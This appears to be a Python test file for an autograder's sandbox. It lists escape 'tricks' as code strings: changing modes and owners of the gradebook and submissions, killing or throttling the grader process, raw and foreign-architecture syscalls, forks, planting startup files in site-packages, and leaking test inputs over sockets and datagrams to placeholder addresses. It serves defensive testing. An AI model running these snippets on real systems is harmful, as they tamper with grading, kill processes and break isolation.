"""Tricks that reach out of the box without opening a file: modes, owners, signals."""

from grading.tricks import CHANGE, SEND, STAY, trick

EVERY = """
import os, ctypes, struct, fcntl, signal
libc = ctypes.CDLL(None, use_errno=True)
PLACES = [os.path.join(above, name) for above, folders, files in os.walk("<outside>")
          for name in [*folders, *files]] or [f"<outside>/{n}" for n in (
          "gradebook.db", "source", "source/hw_tiny", "source/hw_tiny/tiny.ipynb",
          "submitted/ana/hw_tiny/tiny.ipynb", "submitted", "nbgrader_config.py",
          "autograded/.records/secret", "release/hw_tiny/tiny.ipynb", ".")]
def each(*ways):
    for path in PLACES:
        if "/mallory" in path: continue
        for way in ways:
            try: way(path)
            except (OSError, ValueError, AttributeError): pass
"""
trick(CHANGE, "modes", "Makes files of the course writable, and others unreadable.",
      EVERY + """
each(lambda p: os.chmod(p, 0o777), lambda p: os.chmod(p, 0o666, follow_symlinks=False),
     lambda p: libc.syscall(268, -100, p.encode(), 0o777),
     lambda p: libc.syscall(452, -100, p.encode(), 0o777, 0))
""")  # fmt: skip
trick(CHANGE, "modes_by_descriptor", "The same by files that are only looked at.",
      EVERY + """
def by_path(p):
    number = os.open(p, 0o10000000)
    for way in (lambda: os.chmod(f"/proc/self/fd/{number}", 0o777),
                lambda: os.fchmod(number, 0o777),
                lambda: libc.syscall(452, number, b"", 0o777, 0x1000),
                lambda: os.chmod(os.path.basename(p), 0o777, dir_fd=os.open(
                    os.path.dirname(p), 0o10000000))):
        try: way()
        except OSError: pass
each(by_path)
""")  # fmt: skip
trick(CHANGE, "owners", "Gives files of the course to somebody else.", EVERY + """
def by_path(p):
    number = os.open(p, 0o10000000)
    libc.syscall(260, number, b"", 12345, 12345, 0x1000)
each(lambda p: os.chown(p, 12345, 12345), lambda p: os.lchown(p, 12345, 12345),
     lambda p: libc.syscall(92, p.encode(), 12345, 12345), by_path)
""")  # fmt: skip
trick(CHANGE, "times", "Sets the times of others' submissions back.", EVERY + """
def by_path(p):
    number = os.open(p, 0o10000000)
    libc.syscall(280, number, b"", struct.pack("qqqq", 9, 0, 9, 0), 0x1000)
each(lambda p: os.utime(p, (10 ** 9, 10 ** 9)), by_path,
     lambda p: libc.syscall(132, p.encode(), struct.pack("qq", 9, 9)),
     lambda p: libc.syscall(235, p.encode(), struct.pack("qqqq", 9, 0, 9, 0)),
     lambda p: libc.syscall(261, -100, p.encode(), struct.pack("qqqq", 9, 0, 9, 0)))
""")  # fmt: skip
trick(CHANGE, "attributes", "Sets attributes and flags of files.", EVERY + """
def flags(p):
    number = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
    fcntl.ioctl(number, 0x40086602, struct.pack("i", 0x40))
    libc.syscall(469, -100, p.encode(), bytes(64), 64, 0)
each(lambda p: os.setxattr(p, "user.mark", b"x"), flags,
     lambda p: libc.lsetxattr(p.encode(), b"user.mark", b"x", 1, 0),
     lambda p: libc.syscall(463, -100, p.encode(), 0, b"user.mark", b"x", 16))
""")  # fmt: skip
trick(CHANGE, "links_and_moves", "Links, moves and cuts files of the course.",
      EVERY + """
each(lambda p: os.link(p, "mine"), lambda p: os.link("tiny", p + ".more"),
     lambda p: os.truncate(p, 1), lambda p: os.rename(p, p + ".old"),
     lambda p: libc.syscall(316, -100, p.encode(), -100, b"other", 2),
     lambda p: os.mkfifo(p + ".pipe"), lambda p: os.symlink("/", p + ".link"),
     lambda p: os.mkdir(p + ".folder"), lambda p: os.mknod(p + ".node"))
""")  # fmt: skip
trick(CHANGE, "open_for_writing", "Opens files of the course in every way there is.",
      EVERY + """
def by_number(p):
    number = os.open(p, 0o10000000)
    os.write(os.open(f"/proc/self/fd/{number}", os.O_WRONLY), b"x")
each(by_number,
     lambda p: open(p, "r+b").write(b"x"), lambda p: open(p, "ab").write(b"x"),
     lambda p: libc.syscall(437, -100, p.encode(), struct.pack("QQQ", 1, 0, 0), 24),
     lambda p: libc.creat(p.encode(), 0o666))
""")  # fmt: skip
trick(CHANGE, "root_of_another", "Changes its root, its user, its mounts.", EVERY + """
ways = [lambda: os.chroot("<outside>"), lambda: os.setuid(0),
        lambda: os.setresuid(1, 1, 1),
        lambda: libc.unshare(0x10000000), lambda: libc.unshare(0x00020000),
        lambda: libc.mount(b"none", b"<outside>", b"tmpfs", 0, None),
        lambda: os.setgroups([0]), lambda: libc.setns(0, 0)]
for way in ways:
    try:
        if way() == 0: print("GOT", "AWAY")
    except (OSError, AttributeError): pass
""")  # fmt: skip
trick(CHANGE, "demoted_grader", "Has the grader run last, and on one processor.",
      EVERY + """
import resource
for pid in {os.getppid(), <victim>}:
    for way in (lambda: os.sched_setaffinity(pid, {0}),
                lambda: os.sched_setscheduler(pid, 5, os.sched_param(0)),
                lambda: os.setpriority(0, pid, 19), lambda: os.setpriority(2, 0, 19),
                lambda: libc.syscall(251, 1, pid, 0x6000),
                lambda: libc.syscall(314, pid, struct.pack("II5Q", 48, 5, *[0] * 5), 0),
                lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (9, 9)),
                lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))):
        try: way()
        except OSError: pass
""")  # fmt: skip
# Whoever owns a pipe's signals gets them from the kernel, not from who writes.
trick(CHANGE, "signal_by_a_pipe", "Has the kernel send signals for it.", EVERY + """
import termios
for pid in (<victim>, os.getppid()):
    read, write = os.pipe()
    for way in (lambda: fcntl.fcntl(read, 8, pid), lambda: fcntl.fcntl(read, 10, 9),
                lambda: libc.syscall(72, read, 15, struct.pack("ii", 1, pid)),
                lambda: fcntl.ioctl(read, 0x8901, struct.pack("i", pid)),
                lambda: fcntl.fcntl(read, 4, os.O_ASYNC | os.O_NONBLOCK),
                lambda: fcntl.ioctl(read, 0x5452, struct.pack("i", 1)),
                lambda: os.write(write, b"x")):
        try: way()
        except OSError: pass
""")  # fmt: skip
trick(CHANGE, "signal_by_own_line", "The same by the line to the judge.", EVERY + """
import gc
lines = [c.connection for c in gc.get_objects() if type(c).__name__ == "Channel"]
for line in lines:
    for way in (lambda: fcntl.ioctl(line, 0x8901, struct.pack("i", <victim>)),
                lambda: fcntl.ioctl(line, 0x8902, struct.pack("i", os.getppid())),
                lambda: fcntl.fcntl(line, 8, <victim>),
                lambda: fcntl.fcntl(line, 10, 9),
                lambda: fcntl.ioctl(line, 0x5452, struct.pack("i", 1))):
        try: way()
        except OSError: pass
""", ours=True)  # fmt: skip
trick(CHANGE, "signals", "Ends other processes in every way there is.", EVERY + """
for pid in (<victim>, os.getppid()):
    for way in (lambda: os.kill(pid, 9), lambda: os.killpg(pid, 9),
                lambda: libc.syscall(200, pid, 9),
                lambda: libc.syscall(234, pid, pid, 9),
                lambda: libc.syscall(129, pid, 9, bytes(128)),
                lambda: signal.pidfd_send_signal(os.pidfd_open(pid), 9),
                lambda: libc.ptrace(16, pid, 0, 0), lambda: libc.syscall(448, pid, 0),
                lambda: libc.syscall(311, pid, 0, 0, 0, 0, 0)):
        try: way()
        except (OSError, AttributeError): pass
""")  # fmt: skip
# Calls that reach others, with arguments that do nothing where they are allowed.
trick(CHANGE, "calls_that_reach_others", "Tries every system call that reaches others.",
      """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
CALLS = [call.split("=") for call in '''
    socket=41 connect=42 bind=49 io_uring_setup=425 execve=59 execveat=322
    tkill=200 rt_sigqueueinfo=129 rt_tgsigqueueinfo=297 pidfd_open=434
    pidfd_send_signal=424 pidfd_getfd=438 ptrace=101 process_vm_readv=310
    process_vm_writev=311 perf_event_open=298 setpriority=141 ioprio_set=251
    chown=92 fchown=93 lchown=94 fchownat=260 setxattr=188 lsetxattr=189
    fsetxattr=190 mknod=133 mknodat=259 sched_setparam=142
    sched_setscheduler=144 sched_setaffinity=203 sched_setattr=314
    inotify_init=253 inotify_init1=294 fanotify_init=300 memfd_create=319
    shmget=29 semget=64 msgget=68 mq_open=240 unshare=272 setns=308 mount=165
    umount2=166 pivot_root=155 chroot=161 open_by_handle_at=304 bpf=321
    userfaultfd=323 add_key=248 request_key=249 keyctl=250 init_module=175
    finit_module=313 delete_module=176 kexec_load=246 swapon=167
    settimeofday=164 clock_settime=227 sethostname=170 adjtimex=159
    clock_adjtime=305 fsopen=430 fspick=433 open_tree=428 move_mount=429
    mount_setattr=442 syslog=103 acct=163 setdomainname=171 quotactl=179
    swapoff=168 kexec_file_load=320 move_pages=279 migrate_pages=256 kcmp=312
    process_mrelease=448 process_madvise=440 quotactl_fd=443 file_setattr=469
    mq_unlink=241
'''.split()]
if "autograder.cage" in __import__("sys").modules and os.uname().machine == "x86_64":
    through = []
    for name, number in CALLS:
        ctypes.set_errno(0)
        found = libc.syscall(int(number), -1, -1, -1, -1, -1, -1)
        if found != -1 or ctypes.get_errno() not in (1, 38): through.append(name)
    if through: print("GOT", "AWAY with", through)
""", ours=True)  # fmt: skip
trick(CHANGE, "other_numberings", "Calls by the numbers of other architectures.", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if "autograder.cage" in __import__("sys").modules:
    for number in (41, 57, 62, 90, 92, 280):
        if libc.syscall(0x40000000 | number, -1, -1, -1) != -1: print("GOT", "AWAY")
""", ours=True)  # fmt: skip
trick(CHANGE, "calls_of_another_machine", "Calls as a program of 32 bits would.", """
import ctypes, mmap, sys
if "autograder.cage" in sys.modules:
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")  # getpid, by int 0x80
    place = ctypes.addressof(ctypes.c_char.from_buffer(code))
    if ctypes.CFUNCTYPE(ctypes.c_int)(place)() > 0: print("GOT", "AWAY")
""", ours=True)  # fmt: skip
trick(CHANGE, "watched_folder", "Watches what others do to files.", EVERY + """
number = libc.inotify_init1(0)
if number >= 0 and libc.inotify_add_watch(number, b"<outside>", 0xfff) >= 0:
    print("GOT", "AWAY")
try:
    fcntl.fcntl(os.open("/usr/bin", os.O_RDONLY), 1026, 0x80000000 | 63)
    print("GOT", "AWAY")
except OSError: pass
""")  # fmt: skip
trick(CHANGE, "libraries_for_the_next", "Leaves code where the next one would load it.",
      """
import sys, os, site
home = os.path.expanduser("~")
for folder in [*sys.path, site.getusersitepackages(), home, sys.prefix]:
    for name in ("sitecustomize.py", "usercustomize.py", "mallory.pth", ".pythonrc.py",
                 "numpy/__pycache__/mallory.pyc"):
        path = os.path.join(folder or ".", name)
        if "autograder.cage" in sys.modules and "site-packages" in path:
            try:
                open(path, "x").write("")
                os.remove(path)
                print("GOT", "AWAY with", path)
            except OSError: pass
""", ours=True)  # fmt: skip
trick(CHANGE, "zygote_by_its_memory", "Writes to memory that all processes share.", """
import mmap, os
try:
    for line in open("/proc/self/maps"):
        place, rights, *rest = line.split()
        if rights[3] == "s" and rest[-1].startswith("/") and "w" in rights:
            print("GOT", "AWAY with", line)
except OSError: pass
import numpy, coursekit
for path in (numpy.__file__, coursekit.__file__, os.__file__):
    try:
        with open(path, "r+b") as file:
            mmap.mmap(file.fileno(), 0)
            print("GOT", "AWAY with", path)
    except OSError: pass
""", ours=True)  # fmt: skip
trick(STAY, "threads_behind", "Leaves threads that answer after their cell.", """
import threading, time, os
def late():
    for _ in range(200):
        time.sleep(0.05)
        globals()["double"] = lambda x: 2 * x if x == 2 else 0
        try: open("<outside>/late", "w").write("x")
        except OSError: pass
for _ in range(5): threading.Thread(target=late).start()
""", "def double(x):\n    return 1")  # fmt: skip
trick(STAY, "every_fork", "Starts processes by every call that does.", """
import os, ctypes, time, subprocess
libc = ctypes.CDLL(None, use_errno=True)
def stay():
    time.sleep(15)
    os._exit(0)
ways = [os.fork, os.forkpty, lambda: libc.fork(), lambda: libc.syscall(57),
        lambda: libc.syscall(56, 17, 0, 0, 0, 0),
        lambda: libc.syscall(435, bytes(88), 88),
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "15"], {}) and 1]
for way in ways:
    try:
        child = way()
        if child == 0 or isinstance(child, tuple) and child[0] == 0: stay()
    except OSError: pass
""")  # fmt: skip
trick(STAY, "timers_behind", "Leaves alarms, timers and handlers.", """
import signal, time, os, threading
signal.signal(signal.SIGALRM, lambda *a: time.sleep(0.01))
signal.setitimer(signal.ITIMER_REAL, 0.02, 0.02)
for n in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGXCPU, signal.SIGPIPE):
    signal.signal(n, signal.SIG_IGN)
threading.Timer(1, lambda: open("<outside>/late", "w")).start()
""")  # fmt: skip
trick(SEND, "every_family", "Tries every family of sockets.", """
import socket, ctypes
libc = ctypes.CDLL(None, use_errno=True)
for family in range(46):
    for kind in (1, 2, 3, 5, 10):
        number = libc.syscall(41, family, kind, 0)
        if number >= 0 and "autograder.cage" in __import__("sys").modules:
            print("GOT", "AWAY", family, kind)
try:
    line = socket.create_connection(("127.0.0.1", <tcp>), 2)
    line.sendall(b"x")
except OSError: pass
""")  # fmt: skip
trick(SEND, "by_libraries", "Has libraries fetch something.", """
import urllib.request, http.client, ftplib, smtplib, xmlrpc.client
place = "127.0.0.1"
for way in (lambda: urllib.request.urlopen(f"http://{place}:<tcp>", timeout=2),
            lambda: http.client.HTTPConnection(place, <tcp>, timeout=2).connect(),
            lambda: ftplib.FTP().connect(place, <tcp>, 2),
            lambda: smtplib.SMTP(place, <tcp>, timeout=2),
            lambda: __import__("logging.handlers").handlers.SysLogHandler(
                (place, <udp>)).socket.sendto(b"x", (place, <udp>)),
            lambda: __import__("pandas").read_csv(f"http://{place}:<tcp>/x")):
    try: way()
    except Exception: pass
""")  # fmt: skip
trick(SEND, "own_line_given_away", "Connects the line it has to somebody else.", """
import gc, socket, struct
for end in [c for c in gc.get_objects() if type(c).__name__ == "Channel"]:
    for way in (lambda: end.connection.connect(("127.0.0.1", <tcp>)),
                lambda: end.connection.sendto(b"x", ("127.0.0.1", <udp>)),
                lambda: socket.send_fds(end.connection, [b"x"], [0]),
                lambda: socket.socketpair()):
        try: way()
        except (OSError, ValueError): pass
""", ours=True)  # fmt: skip
# A datagram needs no connection: a socket of a pair sends to any name there is.
DATAGRAM = """
import socket, array
def pairs():
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try: yield socket.socketpair(socket.AF_UNIX, kind)
        except OSError: pass
def tell(place, *what):
    said = repr(what).encode()
    for ours, theirs in pairs():
        files = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))]
        for way in (lambda: ours.sendto(said, place),
                    lambda: ours.sendmsg([said], files, 0, place),
                    lambda: ours.connect(place) or ours.send(said)):
            try: way()
            except OSError: pass
"""
trick(SEND, "datagram_to_a_path", "Sends what a test hands over to a path outside.",
      DATAGRAM, """def double(x):
    tell("<drop>", "double", x)
    return 0""")  # fmt: skip
trick(SEND, "datagram_to_a_name", "Sends it to a name that is no file.", DATAGRAM,
      """def double(x):
    tell("\\0<hall>", "double", x)
    return 0""")  # fmt: skip
trick(SEND, "name_of_its_own", "Gets a name, by which others can hand files in.",
      DATAGRAM + """
for ours, theirs in pairs():
    try:
        ours.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        ours.send(b"x")
        if ours.getsockname(): print("GOT", "AWAY as", ours.getsockname())
    except OSError: pass
""", ours=True)  # fmt: skip
trick(SEND, "files_by_a_stream", "Takes and gives open files by a pair of streams.", """
import socket, sys
ours, theirs = socket.socketpair()
try:
    socket.send_fds(ours, [b"x"], [0])
    if socket.recv_fds(theirs, 1, 1)[1] and "autograder.cage" in sys.modules:
        print("GOT", "AWAY")
except OSError: pass
""", ours=True)  # fmt: skip
